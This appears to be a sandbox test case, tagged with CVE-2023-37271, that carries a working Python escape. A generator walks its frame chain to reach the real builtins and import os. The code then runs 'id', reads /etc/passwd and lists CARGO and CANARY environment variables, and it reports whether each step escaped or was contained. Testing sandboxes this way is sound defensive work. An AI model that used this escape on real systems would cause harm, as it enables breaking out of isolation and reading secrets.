# /// case
# technique = "frames-and-generators"
# analysis = ["forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2023-37271"
# ///
# A generator that looks at its own frame while it runs, and walks outwards until it finds builtins.
def walker():
    yield self.gi_frame.f_back

self = walker()
frame = next(self)
found = None
while frame is not None:
    names = frame.f_builtins
    if "__import__" in names:
        found = names["__import__"]("os")
    frame = frame.f_back

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
